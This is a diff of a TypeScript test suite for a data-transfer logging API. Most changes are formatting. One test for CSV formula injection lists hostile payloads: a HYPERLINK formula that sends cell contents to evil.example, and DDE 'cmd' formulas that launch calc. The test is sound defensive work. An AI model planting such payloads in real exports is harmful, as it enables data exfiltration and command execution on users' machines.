@@ -32,7 +32,12 @@ describe('POST /transfers', () => {
     const before = await treeSize(t);
     const res = await postTransfers(t, p.mainland, [transferRecord(contractId), transferRecord(contractId)]);
     expect(res.status).toBe(201);
-    expect(res.body).toEqual({ records: [{ leafIndex: before, flags: [] }, { leafIndex: before + 1, flags: [] }] });
+    expect(res.body).toEqual({
+      records: [
+        { leafIndex: before, flags: [] },
+        { leafIndex: before + 1, flags: [] },
+      ],
+    });
     // The recipient party logs too (either party's users, DESIGN.md §4).
     const fromRecipient = await postTransfers(t, p.hongKong, [transferRecord(contractId)]);
     expect(fromRecipient.status).toBe(201);
@@ -40,7 +45,11 @@ describe('POST /transfers', () => {
   });
 
   it('stores the leaf as the RFC 8785 canonical JSON of the stored record, flags and recordedAt included', async () => {
-    const record = transferRecord(contractId, { occurredAt: '2025-01-25T11:00:00+08:00', payloadDigest: 'AB'.repeat(32), purposes: ['credit assessment', 'other thing'] });
+    const record = transferRecord(contractId, {
+      occurredAt: '2025-01-25T11:00:00+08:00',
+      payloadDigest: 'AB'.repeat(32),
+      purposes: ['credit assessment', 'other thing'],
+    });
     const res = await postTransfers(t, p.mainland, [record]);
     const { leafIndex, flags } = res.body.records[0];
     expect(flags).toEqual(['PURPOSE_NOT_IN_SCOPE']);
@@ -77,7 +86,11 @@ describe('POST /transfers', () => {
       // MEDICAL_HEALTH is outside the annex, and consent was obtained.
       ['SENSITIVE_NOT_IN_SCOPE', { sensitiveCategories: ['MEDICAL_HEALTH'] }, ['SENSITIVE_NOT_IN_SCOPE']],
       // FINANCIAL_ACCOUNT is in the annex: only the missing consent is flagged.
-      ['SENSITIVE_WITHOUT_SEPARATE_CONSENT', { sensitiveCategories: ['FINANCIAL_ACCOUNT'], separateConsentObtained: false }, ['SENSITIVE_WITHOUT_SEPARATE_CONSENT']],
+      [
+        'SENSITIVE_WITHOUT_SEPARATE_CONSENT',
+        { sensitiveCategories: ['FINANCIAL_ACCOUNT'], separateConsentObtained: false },
+        ['SENSITIVE_WITHOUT_SEPARATE_CONSENT'],
+      ],
       ['PURPOSE_NOT_IN_SCOPE', { purposes: ['marketing'] }, ['PURPOSE_NOT_IN_SCOPE']],
       ['METHOD_NOT_IN_SCOPE', { transferMethod: 'USB stick by courier' }, ['METHOD_NOT_IN_SCOPE']],
       // The annex lists this recipient in GUANGZHOU, so in BEIJING it is also not the annex's recipient.
@@ -106,7 +119,9 @@ describe('POST /transfers', () => {
     });
 
     it('a clean record in an onward recipient the annex lists has none', async () => {
-      const res = await postTransfers(t, p.mainland, [transferRecord(contractId, { onwardRecipient: { name: 'bay credit  reference centre', city: 'GUANGZHOU' } })]);
+      const res = await postTransfers(t, p.mainland, [
+        transferRecord(contractId, { onwardRecipient: { name: 'bay credit  reference centre', city: 'GUANGZHOU' } }),
+      ]);
       expect(res.body.records[0].flags).toEqual([]);
     });
 
@@ -115,7 +130,10 @@ describe('POST /transfers', () => {
       const record = () => transferRecord(other, { occurredAt: '2025-01-27T03:00:00Z' });
       const before = await postTransfers(t, p.mainland, [record()]);
       expect(before.body.records[0].flags).toEqual([]);
-      const terminated = await t.http.post(`/contracts/${other}/terminate`).set(...bearer(p.mainland)).send({ terminatedOn: '2025-01-26', reason: 'business ended' });
+      const terminated = await t.http
+        .post(`/contracts/${other}/terminate`)
+        .set(...bearer(p.mainland))
+        .send({ terminatedOn: '2025-01-26', reason: 'business ended' });
       expect([200, 201]).toContain(terminated.status);
       const after = await postTransfers(t, p.mainland, [record()]);
       expect(after.body.records[0].flags).toEqual(['CONTRACT_TERMINATED']);
@@ -130,7 +148,10 @@ describe('POST /transfers', () => {
       // Flags and leaves are prepared from the cached scope; the termination commits (another connection) before the transaction opens.
       ingestionTestHooks.beforeTransaction = async () => {
         ingestionTestHooks.beforeTransaction = undefined;
-        const terminated = await t.http.post(`/contracts/${other}/terminate`).set(...bearer(p.hongKong)).send({ terminatedOn: '2025-01-26', reason: 'business ended' });
+        const terminated = await t.http
+          .post(`/contracts/${other}/terminate`)
+          .set(...bearer(p.hongKong))
+          .send({ terminatedOn: '2025-01-26', reason: 'business ended' });
         terminatedStatus = terminated.status;
       };
       try {
@@ -140,7 +161,10 @@ describe('POST /transfers', () => {
         // Only the record on or after the termination date, of the terminated contract, is flagged.
         expect(res.body.records.map((r: { flags: string[] }) => r.flags)).toEqual([['CONTRACT_TERMINATED'], [], []]);
         const first = res.body.records[0].leafIndex;
-        const stored = await t.dataSource.query('SELECT flags, leaf FROM transfer_records WHERE leaf_index >= $1 AND leaf_index < $2 ORDER BY leaf_index', [first, first + 3]);
+        const stored = await t.dataSource.query('SELECT flags, leaf FROM transfer_records WHERE leaf_index >= $1 AND leaf_index < $2 ORDER BY leaf_index', [
+          first,
+          first + 3,
+        ]);
         expect(stored.map((r: { flags: string[] }) => r.flags)).toEqual([['CONTRACT_TERMINATED'], [], []]);
         // The signed leaf carries the flags too, and its hash matches it.
         expect(stored.map((r: { leaf: Buffer }) => JSON.parse(r.leaf.toString('utf8')).flags)).toEqual([['CONTRACT_TERMINATED'], [], []]);
@@ -154,7 +178,10 @@ describe('POST /transfers', () => {
 
   it('logs through a service account (ORG_SYSTEM)', async () => {
     const orgAdmin = await t.user('ORG_ADMIN', { organisationId: p.mainlandId });
-    const sa = await t.http.post(`/organisations/${p.mainlandId}/service-accounts`).set(...bearer(orgAdmin.token)).send({});
+    const sa = await t.http
+      .post(`/organisations/${p.mainlandId}/service-accounts`)
+      .set(...bearer(orgAdmin.token))
+      .send({});
     expect(sa.status).toBe(201);
     const token = await t.http.post('/auth/token').send({ grantType: 'client_credentials', clientId: sa.body.clientId, clientSecret: sa.body.clientSecret });
     const res = await postTransfers(t, token.body.accessToken, [transferRecord(contractId)]);
@@ -208,7 +235,11 @@ describe('POST /transfers', () => {
 
     it('400 for an empty batch, a batch over 10,000, and a local time without offset', async () => {
       expect((await postTransfers(t, p.mainland, [])).status).toBe(400);
-      const tooMany = await postTransfers(t, p.mainland, Array.from({ length: 10_001 }, () => transferRecord(contractId)));
+      const tooMany = await postTransfers(
+        t,
+        p.mainland,
+        Array.from({ length: 10_001 }, () => transferRecord(contractId)),
+      );
       expect(tooMany.status).toBe(400);
       const local = await postTransfers(t, p.mainland, [transferRecord(contractId, { occurredAt: '2025-01-25T03:00:00' })]);
       expect(local.status).toBe(400);
@@ -397,7 +428,10 @@ describe('GET /transfers, export and summary', () => {
     expect(await pageAll(p.hkDpo, 'flagged=true')).toHaveLength(N / 10);
     const exported = await t.http.get('/transfers/export?format=ndjson&flagged=true').set(...bearer(p.gdCac));
     expect(exported.status).toBe(200);
-    const rows = exported.text.trimEnd().split('\n').map((l) => JSON.parse(l));
+    const rows = exported.text
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     expect(rows).toHaveLength(N / 10);
     expect(rows.every((r) => r.flags.includes('PURPOSE_NOT_IN_SCOPE'))).toBe(true);
     expect((await t.http.get('/transfers?flagged=yes').set(...bearer(p.hkDpo))).status).toBe(400);
@@ -411,7 +445,19 @@ describe('GET /transfers, export and summary', () => {
   });
 
   it('400 problem+json naming from or to for anything else, in the list and both exports (PostgreSQL refused some: 500s)', async () => {
-    const bad = ['2025', '2025-01', '2025-W01', '2025-W01-1', '2025-032', '2025-01-01T10', '2025-01-01T10:00', '2025-01-01T10:00:00', '2025-02-30', '0000-01-01', '20250101'];
+    const bad = [
+      '2025',
+      '2025-01',
+      '2025-W01',
+      '2025-W01-1',
+      '2025-032',
+      '2025-01-01T10',
+      '2025-01-01T10:00',
+      '2025-01-01T10:00:00',
+      '2025-02-30',
+      '0000-01-01',
+      '20250101',
+    ];
     for (const value of bad) {
       for (const field of ['from', 'to']) {
         for (const path of ['/transfers?', '/transfers/export?format=ndjson&', '/transfers/export?format=csv&']) {
@@ -444,7 +490,10 @@ describe('GET /transfers, export and summary', () => {
   });
 
   it('exports N rows as csv', async () => {
-    const res = await t.http.get(`/transfers/export?format=csv&contractId=${contractB}`).set(...bearer(p.mainland)).buffer(true);
+    const res = await t.http
+      .get(`/transfers/export?format=csv&contractId=${contractB}`)
+      .set(...bearer(p.mainland))
+      .buffer(true);
     expect(res.status).toBe(200);
     expect(res.headers['content-type']).toMatch(/text\/csv/);
     // Quoted fields may hold newlines: count records by leafIndex at line starts.
@@ -505,7 +554,7 @@ describe('GET /transfers/export?format=csv: spreadsheet formula injection (OWASP
   let t: TestApp;
   let p: Parties;
   let contractId: string;
-  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
 
   beforeAll(async () => {
     t = await startTestApp();
@@ -526,7 +575,10 @@ describe('GET /transfers/export?format=csv: spreadsheet formula injection (OWASP
   afterAll(async () => t?.close());
 
   it('prefixes a cell of organisation text starting with =, +, -, @, tab or CR with a single quote', async () => {
-    const res = await t.http.get(`/transfers/export?format=csv&contractId=${contractId}`).set(...bearer(p.gdCac)).buffer(true);
+    const res = await t.http
+      .get(`/transfers/export?format=csv&contractId=${contractId}`)
+      .set(...bearer(p.gdCac))
+      .buffer(true);
     expect(res.status).toBe(200);
     const [header, ...rows] = parseCsv(res.text);
     const col = (name: string) => header.indexOf(name);
@@ -549,7 +601,10 @@ describe('GET /transfers/export?format=csv: spreadsheet formula injection (OWASP
   it('keeps the exact text in the ndjson export and the leaves', async () => {
     const res = await t.http.get(`/transfers/export?format=ndjson&contractId=${contractId}`).set(...bearer(p.gdCac));
     expect(res.status).toBe(200);
-    const rows = res.text.trimEnd().split('\n').map((l) => JSON.parse(l));
+    const rows = res.text
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     expect(rows.slice(0, hostile.length).map((r) => r.externalReference)).toEqual(hostile);
     expect(rows.slice(0, hostile.length).map((r) => JSON.parse(Buffer.from(r.leaf, 'base64').toString('utf8')).transferMethod)).toEqual(hostile);
   });
